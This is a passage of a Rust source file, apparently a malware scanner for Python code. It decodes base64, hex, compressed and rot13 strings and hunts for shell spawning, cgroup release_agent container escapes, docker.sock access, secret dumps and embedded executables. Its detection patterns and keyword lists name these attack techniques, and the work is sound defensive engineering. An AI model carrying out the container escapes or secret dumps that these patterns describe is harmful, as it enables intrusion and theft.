                kinds.push(if *f == F::EscapeProbe {
                    escape_kind(p)
                } else {
                    0
                });
            }
        }
        // The cues: their feature is never set (`string` returns on their kind first, and
        // `has_feature` passes them by).
        for &(p, kind) in CUE_PATTERNS {
            pats.push(p);
            features.push(F::InternalUrl);
            kinds.push(kind);
        }
        Patterns {
            dfa: DFA::builder()
                .ascii_case_insensitive(true)
                .prefilter(false)
                .build(&pats)
                .expect("the fixed indicator patterns build"),
            longest: pats.iter().map(|p| p.len()).max().unwrap_or(0),
            texts: pats,
            features,
            kinds,
        }
    })
}

fn is_exec_name(t: &Token<'_>) -> bool {
    // The lexer's last segment, not a search for it: asked of the token before every string.
    t.kind == Kind::Name && is_builtin_exec_with(t.text, t.tail())
}

/// The builtins exec/eval/compile/execfile (bare, or through `builtins`/`__builtins__`):
/// `re.compile` and `cursor.execute` are not code execution.
fn is_builtin_exec(name: &str) -> bool {
    is_builtin_exec_with(name, last_segment(name))
}

/// [`is_builtin_exec`] of `name` whose last segment `last` is known.
fn is_builtin_exec_with(name: &str, last: &str) -> bool {
    matches!(last, "exec" | "eval" | "compile" | "execfile")
        && (name == last || name.starts_with("builtins") || name.starts_with("__builtins__"))
}

/// A string literal's value, with the `\x`-style escapes it was written with; `executed` when
/// it is the argument of exec/eval/compile. Returns the [`CUES`] found in it.
fn string(s: &str, escapes: u32, depth: u8, executed: bool, acc: &mut Acc) -> u16 {
    acc.escapes += escapes;
    // A shell named on its own: `Popen(["bash", "-i"])`, `pty.spawn("sh")`.
    if s.len() <= 4
        && matches!(
            s,
            "sh" | "ash" | "bash" | "zsh" | "ksh" | "dash" | "cmd" | "pwsh"
        )
    {
        acc.set(F::ShellStr);
    }
    if s.len() < 4 {
        return 0;
    }
    let p = patterns();
    let mut kinds = 0u16;
    let mut run_dir = false;
    let hit = |m: Hit| {
        let f = p.features[m.pattern];
        let mut kind = p.kinds[m.pattern];
        // `umount /dev/sdb1`, `umount -t cgroup …` unmount.
        if kind & ESCAPE_MOUNT != 0 && m.start > 0 && s.as_bytes()[m.start - 1] == b'u' {
            return;
        }
        // `mount -t cgroup2`: cgroup v2 has no release_agent.
        if kind & ESCAPE_CGROUP_MOUNT != 0 && s[m.end..].starts_with('2') {
            kind &= !ESCAPE_CGROUP_MOUNT;
        }
        kinds |= kind;
        if kind == CGROUP_TYPE || kind & CUES != 0 {
            return;
        }
        // `/api/v1/secrets/NAME` reads one named secret; the list is what dumps them all.
        if f == F::SecretDump && s[m.end..].starts_with('/') {
            return;
        }
        // `/var/run/docker.sock` is a container runtime's socket, not a local service.
        if f == F::InternalUrl && &s[m.start..m.end] == "/run/" {
            run_dir = true;
            return;
        }
        acc.set(f);
    };
    p.find(s, hit);
    // `mount -o rdma -t cgroup cgroup /x`: the options before the type. This counts for the
    // release_agent rule only, not as a probe of its own: container tooling mounts the
    // systemd cgroup v1 hierarchy this way (`mount cgroup -t cgroup /sys/fs/cgroup/systemd`).
    if kinds & CGROUP_TYPE != 0 && kinds & ESCAPE_CGROUP_MOUNT == 0 && mounts_cgroup_v1(s) {
        kinds |= ESCAPE_CGROUP_MOUNT;
    }
    let cues = kinds & CUES;
    kinds &= !(CGROUP_TYPE | CUES);
    if run_dir && kinds & ESCAPE_SOCKET == 0 {
        acc.set(F::InternalUrl);
    }
    acc.escape_kinds |= kinds;
    let lower_url = s.len() >= 7
        && cues & SCHEME_SEPARATOR != 0
        && (s.contains("http://")
            || s.contains("https://")
            || s.contains("ftp://")
            || s.contains("HTTP://"));
    if lower_url {
        acc.urls += 1;
        for scheme in ["http://", "https://"] {
            if let Some(pos) = s.find(scheme) {
                if s[pos + scheme.len()..].starts_with(|c: char| c.is_ascii_digit() || c == '[') {
                    acc.set(F::RawIpUrl);
                }
            }
        }
    }
    if has_ipv4(s) {
        acc.set(F::IpLiteral);
    }
    if s.len() >= 20 {
        // Entropies up to 4 bits leave the feature at 0, so only a string that may pass both
        // 4 and the maximum so far is worked out.
        let floor = acc.max_entropy.max(4.0);
        let (present, entropy) = acc.byte_counts.measure(s.as_bytes(), floor);
        if let Some(e) = entropy {
            if e > acc.max_entropy {
                acc.max_entropy = e;
            }
        }
        if s.len() >= MIN_BLOB {
            blob(s, &present, depth, acc);
        }
    }
    // Code kept in a plain string and executed (`exec("import socket\n…")`) is scanned as
    // code too; docstrings with example code are not.
    // ROT13-encoded code, in a file that names the rot13 codec.
    if acc.rot13 && s.len() >= 16 && depth < MAX_DEPTH && acc.decoded_budget < DECODE_BUDGET {
        let plain: String = s.chars().map(rot13).collect();
        payload(plain.as_bytes(), depth, false, acc);
    }
    // Code that starts as code (a `.pth` line, `python -c` text handed to a shell) is
    // scanned as code even when not passed to exec; prose that mentions code is not.
    let code_first = s.starts_with("import ") && (s.contains(';') || s.contains('\n'));
    if (executed || code_first)
        && s.len() >= 16
        && depth < MAX_DEPTH
        && acc.decoded_budget < DECODE_BUDGET
        && (s.contains("import ") || s.contains("__import__"))
    {
        acc.decoded_budget += s.len();
        scan(s, depth + 1, acc);
    }
    cues
}

/// Whether a shell command in `s` mounts a cgroup v1 filesystem, its type given anywhere in
/// the command's arguments (`mount -o rdma -t cgroup cgroup /x`, `mount --types cgroup …`).
fn mounts_cgroup_v1(s: &str) -> bool {
    /// The longest stretch of a command read after `mount`.
    const SPAN: usize = 256;
    let b = s.as_bytes();
    let mut starts = memchr::memmem::find_iter(b, b"mount ").peekable();
    while let Some(at) = starts.next() {
        let starts_command =
            at == 0 || matches!(b[at - 1], b' ' | b';' | b'&' | b'|' | b'\n' | b'(' | b'/');
        if !starts_command {
            continue;
        }
        // The command runs to the next separator, the next `mount`, or SPAN bytes: each
        // byte is read for one command at most.
        let from = at + "mount ".len();
        let upto = starts.peek().copied().unwrap_or(b.len()).min(from + SPAN);
        let rest = b.get(from..upto).unwrap_or_default();
        let end = rest
            .iter()
            .position(|c| matches!(c, b';' | b'&' | b'|' | b'\n'))
            .unwrap_or(rest.len());
        let words = rest[..end]
            .split(u8::is_ascii_whitespace)
            .filter(|w| !w.is_empty());
        if is_cgroup_v1_type(words) {
            return true;
        }
    }
    false
}

/// Whether a mount command's arguments `words` give the cgroup (v1) type.
fn is_cgroup_v1_type<'w>(words: impl Iterator<Item = &'w [u8]>) -> bool {
    let mut prev: &[u8] = b"";
    for w in words {
        if matches!(prev, b"-t" | b"--types") && w == b"cgroup"
            || matches!(w, b"-tcgroup" | b"--types=cgroup")
        {
            return true;
        }
        prev = w;
    }
    false
}

/// `["mount", …, "-t", "cgroup", …]` in the argument list that starts at `tokens[i]`: its
/// strings, names and commas, up to anything else (`]`, `)`, `=`).
fn lists_cgroup_type(tokens: &[Token<'_>], i: usize) -> bool {
    let words = tokens
        .iter()
        .skip(i + 1)
        .take(32)
        .take_while(|t| t.kind != Kind::Op || t.text == ",")
        .filter(|t| t.kind == Kind::Str)
        .map(|t| t.text.as_bytes());
    is_cgroup_v1_type(words)
}

/// Whether `b` names the rot13 codec (`rot13`, `rot_13`, `rot-13`, any case).
fn names_rot13(b: &[u8]) -> bool {
    memchr::memmem::find_iter(b, b"13").any(|at| {
        let before = &b[..at];
        let before = before
            .strip_suffix(b"_")
            .or_else(|| before.strip_suffix(b"-"))
            .unwrap_or(before);
        before.len() >= 3 && before[before.len() - 3..].eq_ignore_ascii_case(b"rot")
    })
}

fn rot13(c: char) -> char {
    match c {
        'a'..='m' | 'A'..='M' => char::from(c as u8 + 13),
        'n'..='z' | 'N'..='Z' => char::from(c as u8 - 13),
        _ => c,
    }
}

/// Below this length a string is searched for a byte by stepping through it: `memchr`'s setup
/// costs more than the search (two searches a string, about 2% of scoring our scripts).
const SHORT_SEARCH: usize = 32;

/// Whether `at` holds at some place of `x` in `b`, the places tried in order.
#[inline(always)]
fn any_at(x: u8, b: &[u8], mut at: impl FnMut(usize) -> bool) -> bool {
    if b.len() < SHORT_SEARCH {
        (0..b.len()).any(|i| b[i] == x && at(i))
    } else {
        memchr::memchr_iter(x, b).any(at)
    }
}

fn has_ipv4(s: &str) -> bool {
    let b = s.as_bytes();
    // An address starts with a run of digits before a dot, so only the runs before dots are
    // tried (prose has dots but few digits before them; a pass over every byte cost more).
    // Each run is tried once: a run is followed by one byte.
    let at = |dot: usize| {
        let mut i = dot;
        while i > 0 && b[i - 1].is_ascii_digit() {
            i -= 1;
        }
        i < dot
            && (i == 0 || !(b[i - 1].is_ascii_alphanumeric() || b[i - 1] == b'.'))
            && ipv4_at(s, i)
    };
    any_at(b'.', b, at)
}

/// Whether an address (not `0.0.0.0` nor `127.0.0.1`) starts at `s[i..]`, whose byte before is
/// no letter, digit or dot.
fn ipv4_at(s: &str, i: usize) -> bool {
    let b = s.as_bytes();
    let mut parts = 0;
    let mut j = i;
    loop {
        let start = j;
        while j < b.len() && b[j].is_ascii_digit() && j - start < 4 {
            j += 1;
        }
        let n = j - start;
        if n == 0 || n > 3 {
            return false;
        }
        let v: u32 = s[start..j].parse().unwrap_or(999);
        if v > 255 {
            return false;
        }
        parts += 1;
        if parts == 4 {
            let ends = j >= b.len() || !(b[j].is_ascii_alphanumeric() || b[j] == b'.');
            // 0.0.0.0 and version-like 1.2.3.4 are common; count the rest.
            return ends && &s[i..j] != "0.0.0.0" && &s[i..j] != "127.0.0.1";
        }
        if j < b.len() && b[j] == b'.' {
            j += 1;
        } else {
            return false;
        }
    }
}

/// A set of bytes, one bit each.
type ByteSet = [u64; 4];

/// The set of the bytes in the inclusive ranges `ranges`.
const fn byte_set(ranges: &[(u8, u8)]) -> ByteSet {
    let mut set = [0u64; 4];
    let mut r = 0;
    while r < ranges.len() {
        let mut c = ranges[r].0 as usize;
        while c <= ranges[r].1 as usize {
            set[c >> 6] |= 1 << (c & 63);
            c += 1;
        }
        r += 1;
    }
    set
}

/// `c.is_ascii_whitespace()`.
const ASCII_SPACE: ByteSet = byte_set(&[(b'\t', b'\n'), (0x0c, b'\r'), (b' ', b' ')]);
/// The standard base64 alphabet, without padding.
const STANDARD_ALPHABET: ByteSet = byte_set(&[
    (b'0', b'9'),
    (b'a', b'z'),
    (b'A', b'Z'),
    (b'+', b'+'),
    (b'/', b'/'),
]);
/// The URL-safe base64 alphabet, without padding.
const URL_SAFE_ALPHABET: ByteSet = byte_set(&[
    (b'0', b'9'),
    (b'a', b'z'),
    (b'A', b'Z'),
    (b'-', b'-'),
    (b'_', b'_'),
]);
/// Base64 padding.
const PAD: ByteSet = byte_set(&[(b'=', b'=')]);
/// The base64 alphabets, standard and URL-safe, with padding.
const BASE64_CHARS: ByteSet = union(&union(&STANDARD_ALPHABET, &URL_SAFE_ALPHABET), &PAD);
/// The bytes of an encoded payload and those `str::trim` may take off around one: ASCII
/// whitespace (with U+000B, which `char::is_whitespace` counts) and the bytes of non-ASCII
/// characters, some of which are whitespace.
const PAYLOAD_OR_TRIMMED: ByteSet = union(
    &union(&BASE64_CHARS, &ASCII_SPACE),
    &byte_set(&[(0x0b, 0x0b), (0x80, 0xff)]),
);
const HEX_CHARS: ByteSet = byte_set(&[(b'0', b'9'), (b'a', b'f'), (b'A', b'F')]);
const DIGITS_UPPER: ByteSet = byte_set(&[(b'0', b'9'), (b'A', b'Z')]);

/// Whether every byte of `a` is in `b`.
fn within(a: &ByteSet, b: &ByteSet) -> bool {
    a.iter().zip(b).all(|(x, y)| x & !y == 0)
}

/// Whether `a` and `b` share a byte.
fn meets(a: &ByteSet, b: &ByteSet) -> bool {
    a.iter().zip(b).any(|(x, y)| x & y != 0)
}

const fn union(a: &ByteSet, b: &ByteSet) -> ByteSet {
    [a[0] | b[0], a[1] | b[1], a[2] | b[2], a[3] | b[3]]
}

fn minus(a: &ByteSet, b: &ByteSet) -> ByteSet {
    [a[0] & !b[0], a[1] & !b[1], a[2] & !b[2], a[3] & !b[3]]
}

/// Byte counts of one string at a time, in a buffer kept for the whole scan instead of 1 KiB
/// zeroed for each string and copied out (0.4–1% of a score). Long strings are counted in four
/// tables at once, then summed into the first: one table makes each count of a byte wait for
/// the last count of the same byte, which in a 1 MB blob was 10% of scoring it.
/// [`ByteCounts::measure`] leaves the buffers zeroed again.
struct ByteCounts {
    counts: Box<[u32; 256]>,
    /// The other three tables, made for the first long string.
    more: Option<Box<[[u32; 256]; 3]>>,
}

impl Default for ByteCounts {
    fn default() -> Self {
        Self {
            counts: Box::new([0; 256]),
            more: None,
        }
    }
}

/// Strings at least this long are counted in four tables.
const FOUR_TABLES: usize = 4096;

impl ByteCounts {
    /// The set of `b`'s bytes, from one pass, and its Shannon entropy in bits per byte when it
    /// may exceed `floor` (see [`entropy_from`]); the entropy and the payload tests both read
    /// them.
    fn measure(&mut self, b: &[u8], floor: f32) -> (ByteSet, Option<f32>) {
        // Too short to hold more distinct bytes than the floor allows: only the set is needed.
        if !may_exceed(b.len(), floor) {
            return (byte_set_of(b), None);
        }
        let counts = &mut *self.counts;
        let mut present = [0u64; 4];
        // Short strings mark each byte; long ones read the set off the counts at the end.
        if b.len() < 256 {
            for &c in b {
                counts[c as usize] += 1;
                present[usize::from(c >> 6)] |= 1u64 << (c & 63);
            }
        } else {
            if b.len() < FOUR_TABLES {
                for &c in b {
                    counts[c as usize] += 1;
                }
            } else {
                let [c1, c2, c3] = &mut **self.more.get_or_insert_with(|| Box::new([[0; 256]; 3]));
                let quads = b.chunks_exact(4);
                for &c in quads.remainder() {
                    counts[c as usize] += 1;
                }
                for q in quads {
                    counts[q[0] as usize] += 1;
                    c1[q[1] as usize] += 1;
                    c2[q[2] as usize] += 1;
                    c3[q[3] as usize] += 1;
                }
                for (k, n) in counts.iter_mut().enumerate() {
                    *n += std::mem::take(&mut c1[k])
                        + std::mem::take(&mut c2[k])
                        + std::mem::take(&mut c3[k]);
                }
            }
            for (word, counts) in present.iter_mut().zip(counts.chunks_exact(64)) {
                for (k, &n) in counts.iter().enumerate() {
                    *word |= u64::from(n != 0) << k;
                }
            }
        }
        let entropy = entropy_from(counts, &present, b.len(), floor);
        // Zero what was counted: one entry per distinct byte.
        for (w, &bits) in present.iter().enumerate() {
            let mut bits = bits;
            while bits != 0 {
                counts[w * 64 + bits.trailing_zeros() as usize] = 0;
                bits &= bits - 1;
            }
        }
        (present, entropy)
    }
}

/// The set of the bytes of `b`.
fn byte_set_of(b: &[u8]) -> ByteSet {
    let mut present = [0u64; 4];
    for &c in b {
        present[usize::from(c >> 6)] |= 1u64 << (c & 63);
    }
    present
}

/// Whether `n` distinct bytes may have an entropy above `floor`: at most `log2(n)` bits.
/// (A string of `n` bytes has at most `n` distinct ones; the bound grows with `n`.)
fn may_exceed(n: usize, floor: f32) -> bool {
    (n as f32).log2() + 0.01 > floor
}

fn entropy_from(counts: &[u32; 256], present: &ByteSet, len: usize, floor: f32) -> Option<f32> {
    let distinct: u32 = present.iter().map(|w| w.count_ones()).sum();
    if !may_exceed(distinct as usize, floor) {
        return None;
    }
    let n = len as f32;
    let mut word = 0;
    let mut bits = present[0];
    let bytes = std::iter::from_fn(|| {
        while bits == 0 {
            word += 1;
            bits = *present.get(word)?;
        }
        let c = word * 64 + bits.trailing_zeros() as usize;
        bits &= bits - 1;
        Some(c)
    });
    Some(
        bytes
            .map(|c| {
                let p = counts[c] as f32 / n;
                -p * p.log2()
            })
            .sum(),
    )
}

/// Tries `s`, whose bytes are `present`, as an encoded payload (base64, hex, possibly
/// compressed) and scans what it holds.
fn blob(s: &str, present: &ByteSet, depth: u8, acc: &mut Acc) {
    // A byte that trimming never removes (not whitespace, nor part of a non-ASCII character
    // that may be) and that no payload holds is in the trimmed string too, and rules it out:
    // most prose does so at once, without the trimmed string's bytes being gathered again
    // (docstrings start and end with whitespace; that was 7% of scoring library code).
    if !within(present, &PAYLOAD_OR_TRIMMED) {
        return;
    }
    let trimmed = s.trim();
    let present = if trimmed.len() == s.len() {
        *present
    } else {
        byte_set_of(trimmed.as_bytes())
    };
    // Only strings made of base64/hex characters (and whitespace) can be payloads.
    if !within(&present, &union(&BASE64_CHARS, &ASCII_SPACE)) {
        return;
    }
    // The bytes left once whitespace is taken out.
    let body_bytes = minus(&present, &ASCII_SPACE);
    // ASCII only from here (tested above): the body is taken as bytes.
    let compact: Vec<u8>;
    let body = if meets(&present, &ASCII_SPACE) {
        compact = trimmed
            .bytes()
            .filter(|c| !c.is_ascii_whitespace())
            .collect();
        compact.as_slice()
    } else {
        trimmed.as_bytes()
    };
    // Every byte of the body is a base64 one (tested above).
    let is_b64 = body.len() >= MIN_BLOB && meets(&body_bytes, &DIGITS_UPPER);
    let is_hex = body.len() >= 32 && body.len() % 2 == 0 && within(&body_bytes, &HEX_CHARS);
    if is_hex {
        acc.max_hex = acc.max_hex.max(body.len());
    } else if is_b64 {
        acc.max_b64 = acc.max_b64.max(body.len());
    }
    if depth >= MAX_DEPTH || acc.decoded_budget >= DECODE_BUDGET {
        return;
    }
    let decoding = if is_hex {
        Some(Decoding::hex(body))
    } else if is_b64 {
        let digits = body.len() - body.iter().rev().take_while(|&&c| c == b'=').count();
        Decoding::base64(&body[..digits], &body_bytes)
    } else {
        None
    };
    let Some(mut decoding) = decoding else { return };
    let room = DECODE_BUDGET - acc.decoded_budget;
    let bytes = decoded_payload(&mut decoding, room);
    payload(&bytes, depth, true, acc);
}

/// What an encoded body holds, as far as [`payload`] reads it: inflated when it is zlib or gzip
/// data, else the decoded bytes, at least `room` of them (or all). Only what this needs is
/// decoded, so 1 MB of base64 that inflates to the 256 KiB bound is decoded as far as the
/// compressed data that gives those 256 KiB (decoding all of it first was a quarter of scoring
/// it).
fn decoded_payload(d: &mut Decoding<'_>, room: usize) -> Vec<u8> {
    match inflate(d) {
        Some(inflated) => inflated,
        None => {
            d.fill(room);
            std::mem::take(&mut d.out)
        }
    }
}

/// An encoded body (hex, or base64 without its padding) decoded a piece at a time, as far as
/// it is read. Its validity is checked whole up front, so a body is decoded, or not, exactly
/// as one call of the decoder over all of it would.
struct Decoding<'s> {
    body: &'s [u8],
    /// The base64 alphabet, or `None` for hex.
    engine: Option<&'static base64::engine::GeneralPurpose>,
    /// How much of `body` is decoded.
    read: usize,
    /// The bytes decoded so far.
    out: Vec<u8>,
}

/// The value of a base64 digit (either alphabet; `+`, `/`, `-` and `_` are 62 or 63).
fn base64_value(c: u8) -> u8 {
    match c {
        b'A'..=b'Z' => c - b'A',
        b'a'..=b'z' => c - b'a' + 26,
        b'0'..=b'9' => c - b'0' + 52,
        b'+' | b'-' => 62,
        _ => 63,
    }
}

impl<'s> Decoding<'s> {
    /// Input decoded per piece: 16 KiB (a whole number of base64 quads and of hex pairs).
    const PIECE: usize = 16 * 1024;

    /// A hex body: an even number of hex digits, as the caller checked.
    fn hex(body: &'s [u8]) -> Self {
        Decoding {
            body,
            engine: None,
            read: 0,
            out: Vec::new(),
        }
    }

    /// A base64 body with its trailing `=` taken off, whose bytes (with that padding) are
    /// `bytes`: decoded with the standard alphabet when that decodes all of it, else with the
    /// URL-safe one, else `None` (as `STANDARD_NO_PAD.decode(body)`, then
    /// `URL_SAFE_NO_PAD.decode(body)`). A body decodes when every byte is of the alphabet (so
    /// no `=` is left inside it), its length is not 1 more than a multiple of 4, and its last
    /// digit has no bits set beyond the last whole byte.
    fn base64(body: &'s [u8], bytes: &ByteSet) -> Option<Self> {
        use base64::engine::general_purpose::{STANDARD_NO_PAD, URL_SAFE_NO_PAD};
        let digits = minus(bytes, &PAD);
        if meets(bytes, &PAD) && memchr::memchr(b'=', body).is_some() {
            return None;
        }
        let canonical = match (body.len() % 4, body.last()) {
            (1, _) => false,
            (2, Some(&c)) => base64_value(c) & 0x0f == 0,
            (3, Some(&c)) => base64_value(c) & 0x03 == 0,
            _ => true,
        };
        let engine = if within(&digits, &STANDARD_ALPHABET) {
            &STANDARD_NO_PAD
        } else if within(&digits, &URL_SAFE_ALPHABET) {
            &URL_SAFE_NO_PAD
        } else {
            return None;
        };
        canonical.then_some(Decoding {
            body,
            engine: Some(engine),
            read: 0,
            out: Vec::new(),
        })
    }

    /// The length of the whole body decoded.
    fn total(&self) -> usize {
        let n = self.body.len();
        match self.engine {
            Some(_) => n / 4 * 3 + (n % 4).saturating_sub(1),
            None => n / 2,
        }
    }

    fn exhausted(&self) -> bool {
        self.read >= self.body.len()
    }

    /// Decodes the next piece; `false` when all is decoded.
    fn more(&mut self) -> bool {
        if self.exhausted() {
            return false;
        }
        let end = if self.body.len() - self.read <= Self::PIECE {
            self.body.len()
        } else {
            self.read + Self::PIECE
        };
        let piece = &self.body[self.read..end];
        let ok = match self.engine {
            Some(engine) => engine.decode_vec(piece, &mut self.out).is_ok(),
            None => {
                let at = self.out.len();
                self.out.resize(at + piece.len() / 2, 0);
                hex::decode_to_slice(piece, &mut self.out[at..]).is_ok()
            }
        };
        // The body was checked whole, so no piece fails; if one did, nothing more is decoded.
        debug_assert!(ok, "a checked body decodes");
        self.read = if ok { end } else { self.body.len() };
        ok
    }

    /// Decodes until at least `n` bytes are decoded, or all of the body.
    fn fill(&mut self, n: usize) {
        while self.out.len() < n && self.more() {}
    }
}

/// Decompresses `d` when it holds zlib or gzip data, bounded (see [`inflate_bounded`]).
fn inflate(d: &mut Decoding<'_>) -> Option<Vec<u8>> {
    // The headers are in the first eleven bytes.
    d.fill(11);
    let b = &d.out;
    let zlib = b.len() > 2 && b[0] == 0x78 && matches!(b[1], 0x01 | 0x5e | 0x9c | 0xda);
    let gzip = b.len() > 10 && b[0] == 0x1f && b[1] == 0x8b;
    if zlib {
        inflate_bounded(d, 0, true)
    } else if gzip {
        // Skip the fixed gzip header (no optional fields, the common case).
        let flags = b[3];
        if flags != 0 {
            return None;
        }
        inflate_bounded(d, 10, false)
    } else {
        None
    }
}

/// Inflates deflate data (after a zlib header when `zlib`) that starts `skip` bytes into `d`,
/// to at most 256 KiB, decoding `d` as the inflater asks for more input. Past the bound, or
/// when the data is cut short, what did inflate is kept: padding a payload must not hide the
/// code in front of it. Corrupt data gives `None`.
fn inflate_bounded(d: &mut Decoding<'_>, skip: usize, zlib: bool) -> Option<Vec<u8>> {
    use miniz_oxide::inflate::core::{decompress, inflate_flags, DecompressorOxide};
    const LIMIT: usize = 256 * 1024;
    let mut flags = inflate_flags::TINFL_FLAG_USING_NON_WRAPPING_OUTPUT_BUF;
    if zlib {
        flags |= inflate_flags::TINFL_FLAG_PARSE_ZLIB_HEADER;
    }
    let input_len = d.total().saturating_sub(skip);
    let mut out = vec![0u8; input_len.saturating_mul(4).clamp(1024, LIMIT)];
    let mut state = Box::<DecompressorOxide>::default();
    let mut at = skip;
    let mut written = 0;
    loop {
        // Told that more input follows until the body is all decoded, the inflater asks for
        // it rather than failing at the end of what it has.
        let more = !d.exhausted();
        let call_flags = if more {
            flags | inflate_flags::TINFL_FLAG_HAS_MORE_INPUT
        } else {
            flags
        };
        let input = d.out.get(at..).unwrap_or_default();
        let (status, read, wrote) = decompress(&mut state, input, &mut out, written, call_flags);
        written += wrote;
        at += read;
        match status {
            TINFLStatus::NeedsMoreInput if more => {
                d.more();
            }
            TINFLStatus::Done => break,
            TINFLStatus::HasMoreOutput if out.len() < LIMIT => {
                let grown = out.len().saturating_mul(2).min(LIMIT);
                out.resize(grown, 0);
            }
            // With its buffer full, the inflater says it has more output also when it ran
            // out of input (found by a review). Given all the data at once, it would read on
            // to the next byte it has to write, and fail if the data is corrupt before that;
            // so when it took all the input it had, it gets the next piece.
            TINFLStatus::HasMoreOutput if more && at >= d.out.len() => {
                d.more();
            }
            TINFLStatus::HasMoreOutput | TINFLStatus::FailedCannotMakeProgress if written > 0 => {
                break
            }
            _ => return None,
        }
    }
    out.truncate(written);
    Some(out)
}

/// A whole ELF header, or an MZ header whose `e_lfanew` leads to a `PE` signature (two bytes
/// of `MZ` alone turn up in random base64).
fn is_executable(b: &[u8]) -> bool {
    let elf = b.len() >= 52
        && b.starts_with(b"\x7fELF")
        && matches!(b[4], 1 | 2)
        && matches!(b[5], 1 | 2)
        && b[6] == 1;
    let pe = b.len() >= 64 && b.starts_with(b"MZ") && {
        let at = u32::from_le_bytes([b[0x3c], b[0x3d], b[0x3e], b[0x3f]]) as usize;
        b.get(at..at.saturating_add(4)) == Some(b"PE\0\0")
    };
    elf || pe
}

/// Scans a decoded payload when it reads as text that looks like code or a command; code
/// found this way counts as hidden code when `hides` (not for rot13, which turns plain words
/// into other plain words).
fn payload(bytes: &[u8], depth: u8, hides: bool, acc: &mut Acc) {
    let take = bytes
        .len()
        .min(DECODE_BUDGET.saturating_sub(acc.decoded_budget));
    acc.decoded_budget += take;
    let bytes = &bytes[..take];
    // Counted in blocks of 32 bytes, each summed in a byte, which the compiler turns into
    // vector code (a filtered count was 7 instructions a byte).
    let text = |c: u8| (c == b'\n') | (c == b'\t') | (c == b'\r') | (c.wrapping_sub(0x20) < 0x5f);
    let printable: usize = bytes
        .chunks(32)
        .map(|block| usize::from(block.iter().fold(0u8, |n, &c| n + u8::from(text(c)))))
        .sum();
    if bytes.is_empty() || printable * 10 < bytes.len() * 9 {
        // Binary: an executable's header is itself a sign.
        if is_executable(bytes) {
            acc.set(F::ExeDrop);
            acc.hidden = true;
        }
        return;
    }
    // Valid UTF-8 (nearly every payload) is checked by the fast validator, not converted.
    let text = match std::str::from_utf8(bytes) {
        Ok(text) => std::borrow::Cow::Borrowed(text),
        Err(_) => String::from_utf8_lossy(bytes),
    };
    let mut arena = Arena::new();
    let mut gathered = Gathered::new(false, text.len());
    let (tokens, _) = tokenize_into(&text, &mut arena, &mut gathered);
    let looks_like_code = tokens.iter().any(|t| {
        t.kind == Kind::Name
            && matches!(
                t.tail(),
                "import"
                    | "exec"
                    | "eval"
                    | "def"
                    | "socket"
                    | "system"
                    | "Popen"
                    | "subprocess"
                    | "urlopen"
                    | "bash"
                    | "sh"
                    | "curl"
                    | "wget"
                    | "python"
                    | "python3"
                    | "print"
            )
    });
    if looks_like_code && hides {
        acc.hidden = true;
    }
    walk(&text, &tokens, &gathered, depth + 1, acc);
}

/// The word a token stands for in the n-gram stream, if any: names as written, string
/// literals by [`string_class`], and the operators `=`, `+`, `[` and `%`. (Scoring takes the
/// same words in [`Gathered`]'s sink, where each kind of token is already told apart.)
fn gram_word<'a>(t: &Token<'a>) -> Option<&'a str> {
    match t.kind {
        Kind::Name => Some(t.text),
        Kind::Str => Some(string_class(t.text)),
        Kind::Op if matches!(t.text, "=" | "+" | "[" | "%") => Some(t.text),
        Kind::Op | Kind::Number => None,
    }
}

/// The words of [`GramMarks::seen`].
const GRAM_WORDS: usize = (1 << HASH_BITS) / 64;

/// The hashed unigrams and bigrams of the normalised token stream, taken a word at a time.
struct GramMarks {
    /// Presence only: a bitset of buckets, read out in order (no sort). Its length is known
    /// to the compiler, so a masked bucket is indexed without a bounds check.
    seen: Box<[u64; GRAM_WORDS]>,
    /// The seed the next bigram continues from, `fnv(fnv(0, prev), "\0")`, once there is a
    /// previous word.
    prev: Option<u32>,
}

impl GramMarks {
    fn new() -> Self {
        GramMarks {
            seen: Box::new([0u64; GRAM_WORDS]),
            prev: None,
        }
    }

    /// Takes the next word: its unigram's bucket, and the bigram's with the word before.
    #[inline(always)]
    fn word(&mut self, w: &str) -> (u32, Option<u32>) {
        let mask = (1u32 << HASH_BITS) - 1;
        // The unigram `fnv(0, w)` and the bigram `fnv(seed, w)` in one pass over `w`.
        let (h1, h2) = fnv2(self.prev.unwrap_or(0), w.as_bytes());
        let bigram = self.prev.map(|_| h2 & mask);
        if let Some(b) = bigram {
            self.seen[(b / 64) as usize] |= 1u64 << (b % 64);
        }
        let b = h1 & mask;
        self.seen[(b / 64) as usize] |= 1u64 << (b % 64);
        self.prev = Some(fnv(h1, b"\x00"));
        (b, bigram)
    }

    /// The buckets present, sorted.
    fn buckets(&self) -> Vec<u32> {
        let mut out = Vec::new();
        for (w, bits) in self.seen.iter().enumerate() {
            let mut bits = *bits;
            while bits != 0 {
                let t = bits.trailing_zeros();
                out.push(w as u32 * 64 + t);
                bits &= bits - 1;
            }
        }
        out
    }
}

/// The n-grams of `tokens`, each listed in `list` with its text, and the buckets present: what
/// [`Gathered`] takes as the lexer reads the tokens, for an explanation.
fn ngrams(tokens: &[Token], list: &mut Vec<Gram>) -> Vec<u32> {
    let mut marks = GramMarks::new();
    let mut prev: Option<&str> = None;
    for w in tokens.iter().filter_map(gram_word) {
        let (unigram, bigram) = marks.word(w);
        if let (Some(p), Some(bucket)) = (prev, bigram) {
            list.push(Gram {
                text: format!("{p} {w}"),
                bucket,
            });
        }
        list.push(Gram {
            text: w.to_string(),
            bucket: unigram,
        });
        prev = Some(w);
    }
    marks.buckets()
}

/// The bytes of a short string that stands for itself in the n-gram stream
/// ([`string_class`]): ASCII letters and digits, `_`, `-`, `.`, `/`, space and `+`.
const PLAIN: [bool; 256] = {
    let mut table = [false; 256];
    let mut c = 0;
    while c < 256 {
        let b = c as u8;
        table[c] =
            b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-' | b'.' | b'/' | b' ' | b'+');
        c += 1;
    }
    table
};

/// A string literal's class in the n-gram stream: short plain strings stand for themselves.
fn string_class(s: &str) -> &str {
    if s.is_empty() {
        return "S:empty";
    }
    if s.len() <= 24 && s.bytes().all(|c| PLAIN[usize::from(c)]) {
        return s;
    }
    if s.starts_with("http://") || s.starts_with("https://") {
        return "S:url";
    }
    if s.len() >= 64 && all_standard_base64(s.as_bytes()) {
        return "S:blob";
    }
    if s.contains('\n') {
        return "S:text";
    }
    "S:other"
}

/// Whether every byte of `b` is of [`STANDARD_ALPHABET`] or [`PAD`], tested with range
/// comparisons over 32-byte blocks, which the compiler turns into vector code (a table lookup
/// per byte took 5 instructions a byte on a 1 MB blob).
fn all_standard_base64(b: &[u8]) -> bool {
    fn ok(c: u8) -> bool {
